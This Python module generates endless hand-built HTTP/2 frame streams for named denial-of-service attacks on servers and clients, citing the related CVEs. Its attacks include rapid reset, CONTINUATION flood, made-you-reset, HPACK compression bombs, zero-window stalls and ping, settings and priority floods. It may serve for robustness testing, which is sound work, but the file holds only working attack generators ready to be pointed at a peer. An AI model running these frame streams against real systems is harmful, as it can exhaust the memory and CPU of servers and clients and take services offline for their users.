"""HTTP/2 attacks: endless iterators of frames, by name. Nothing here is sent by a well-behaved peer.

    on a server    PREFACE + SETTINGS, then ON_SERVER[name]()
    on a client    SETTINGS, then ON_CLIENT[name](stream): `stream` is a request that waits for its answer

The frames are written by hand, because a library would refuse to send most of them.

Source: RFC 9113 §6 and §10.5; CVE-2019-9511 to 9518, CVE-2023-44487 (rapid reset), CVE-2024-24549 and its kin
(CONTINUATION), CVE-2025-8671 (made you reset).
"""

from __future__ import annotations

import itertools
from collections.abc import Callable, Iterable, Iterator
from struct import Struct

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, _PUSH, PING, _GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
UNKNOWN = 0xEE
INITIAL_WINDOW_SIZE, MAX_CONCURRENT_STREAMS = 4, 3
CANCEL = 8

_REST = Struct(">BBI")
_U32 = Struct(">I")
_SETTING = Struct(">HI")

REQUEST = ((":method", "POST"), (":scheme", "https"), (":authority", "x"), (":path", "/machine/update-health"))
RESPONSE = ((":status", "200"),)
HINT = ((":status", "103"),)

Frames = Iterator[bytes]


def frame(kind: int, flags: int = 0, stream: int = 0, payload: bytes = b"") -> bytes:
    return _U32.pack(len(payload))[1:] + _REST.pack(kind, flags, stream) + payload


def settings(*pairs: tuple[int, int]) -> bytes:
    return frame(SETTINGS, payload=b"".join(_SETTING.pack(*pair) for pair in pairs))


def reset(stream: int) -> bytes:
    return frame(RST_STREAM, stream=stream, payload=_U32.pack(CANCEL))


def window_update(stream: int, size: int = 1) -> bytes:
    return frame(WINDOW_UPDATE, stream=stream, payload=_U32.pack(size))


def block(headers: Iterable[tuple[str, str]] = REQUEST) -> bytes:
    """A header block that leaves no trace in the other end's table: every block can be sent again."""
    encoded: bytes = hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple(*line) for line in headers])
    return encoded


def request(stream: int, *, whole: bool = True, headers: Iterable[tuple[str, str]] = REQUEST) -> bytes:
    return frame(HEADERS, END_HEADERS | (END_STREAM if whole else 0), stream, block(headers))


def streams() -> Iterator[int]:
    """The numbers of a client's streams."""
    return itertools.count(1, 2)


def chunks(frames: Iterable[bytes], size: int = 1 << 14) -> Iterator[bytes]:
    """The same bytes in pieces of about this size, for a socket."""
    piece = bytearray()
    for one in frames:
        piece += one
        if len(piece) >= size:
            yield bytes(piece)
            piece.clear()
    yield bytes(piece)


# --- of a connection, for either side -------------------------------------------------------------------------------


def ping_flood() -> Frames:
    return itertools.repeat(frame(PING, payload=bytes(8)))


def ping_acks() -> Frames:
    """Answers that nobody asked for."""
    return itertools.repeat(frame(PING, ACK, payload=bytes(8)))


def settings_flood() -> Frames:
    return itertools.repeat(settings())


def many_settings() -> Frames:
    """Full frames of settings that nobody knows, each of another number: they may be kept."""
    for first in itertools.cycle(range(16, 1 << 16, 2720)):
        yield settings(*((number, 1) for number in range(first, min(first + 2720, 1 << 16))))


def window_updates() -> Frames:
    return itertools.repeat(window_update(0))


def priority_flood() -> Frames:
    return itertools.repeat(frame(PRIORITY, stream=1, payload=bytes(5)))


def unknown_frames() -> Frames:
    return itertools.repeat(frame(UNKNOWN))


# --- on a server ----------------------------------------------------------------------------------------------------


def rapid_reset() -> Frames:
    """Requests that are taken back at once, so that none ever counts as open."""
    return (request(stream, whole=False) + reset(stream) for stream in streams())


def made_you_reset() -> Frames:
    """DATA for a stream that was reset, which makes the server send resets."""
    yield request(1, whole=False) + reset(1)
    yield from itertools.repeat(frame(DATA, stream=1, payload=bytes(100)))


def continuation_flood() -> Frames:
    yield frame(HEADERS, 0, 1, block())
    yield from itertools.repeat(frame(CONTINUATION, 0, 1))


def tiny_data() -> Frames:
    yield request(1, whole=False)
    yield from itertools.repeat(frame(DATA, stream=1, payload=b"x"))


def empty_data() -> Frames:
    yield request(1, whole=False)
    yield from itertools.repeat(frame(DATA, stream=1))


def hpack_bomb() -> Frames:
    """One header of nearly 4 KiB goes into the table; each later byte stands for all of it."""
    yield frame(HEADERS, END_HEADERS, 1, block() + _table_filler())
    yield from (frame(HEADERS, END_HEADERS, stream, block() + b"\xbe" * 4000) for stream in itertools.count(3, 2))


def patient_hpack_bomb() -> Frames:
    """As above, each block below every limit; the requests are never finished, so that their headers are kept."""
    yield frame(HEADERS, END_HEADERS, 1, block() + _table_filler())
    yield from (frame(HEADERS, END_HEADERS, stream, block() + b"\xbe" * 3) for stream in itertools.count(3, 2))


def zero_window() -> Frames:
    """Requests whose answers the client never lets through."""
    yield settings((INITIAL_WINDOW_SIZE, 0))
    yield from (request(stream, headers=(*REQUEST[:3], (":path", "/nothing"))) for stream in streams())


def _table_filler() -> bytes:
    """A literal that the other end adds to its table as entry 62."""
    name, value = b"x", b"y" * 3900
    length: bytes = bytes(hpack.hpack.encode_integer(len(value), 7))
    return b"\x40\x01" + name + length + value


ON_SERVER: dict[str, Callable[[], Frames]] = {
    attack.__name__: attack
    for attack in (
        rapid_reset,
        continuation_flood,
        ping_flood,
        settings_flood,
        tiny_data,
        hpack_bomb,
        window_updates,
        empty_data,
        zero_window,
        made_you_reset,
        patient_hpack_bomb,
        many_settings,
        priority_flood,
        unknown_frames,
        ping_acks,
    )
}


# --- on a client ----------------------------------------------------------------------------------------------------


def _answer_in_bytes(stream: int) -> Frames:
    yield frame(HEADERS, END_HEADERS, stream, block(RESPONSE))
    yield from itertools.repeat(frame(DATA, stream=stream, payload=b"\0"))


def _empty_answer(stream: int) -> Frames:
    yield frame(HEADERS, END_HEADERS, stream, block(RESPONSE))
    yield from itertools.repeat(frame(DATA, stream=stream))


def _hints(stream: int) -> Frames:
    """Answers that announce an answer."""
    return itertools.repeat(frame(HEADERS, END_HEADERS, stream, block(HINT)))


def _continued_answer(stream: int) -> Frames:
    yield frame(HEADERS, 0, stream, block(RESPONSE))
    yield from itertools.repeat(frame(CONTINUATION, 0, stream))


def _hpack_bomb_in_the_answer(stream: int) -> Frames:
    yield frame(HEADERS, END_HEADERS, stream, block(HINT) + _table_filler())
    yield from itertools.repeat(frame(HEADERS, END_HEADERS, stream, block(HINT) + b"\xbe" * 4000))


def _data_after_the_reset(stream: int) -> Frames:
    yield reset(stream)
    yield from itertools.repeat(frame(DATA, stream=stream, payload=bytes(100)))


ON_CLIENT: dict[str, Callable[[int], Frames]] = {
    "tiny_data": _answer_in_bytes,
    "empty_data": _empty_answer,
    "hints": _hints,
    "continuation_flood": _continued_answer,
    "hpack_bomb": _hpack_bomb_in_the_answer,
    "data_after_reset": _data_after_the_reset,
    "ping_flood": lambda _stream: ping_flood(),
    "ping_acks": lambda _stream: ping_acks(),
    "settings_flood": lambda _stream: settings_flood(),
    "many_settings": lambda _stream: many_settings(),
    "window_updates": lambda _stream: window_updates(),
    "stream_window_updates": lambda stream: itertools.repeat(window_update(stream)),
    "priority_flood": lambda _stream: priority_flood(),
    "unknown_frames": lambda _stream: unknown_frames(),
}
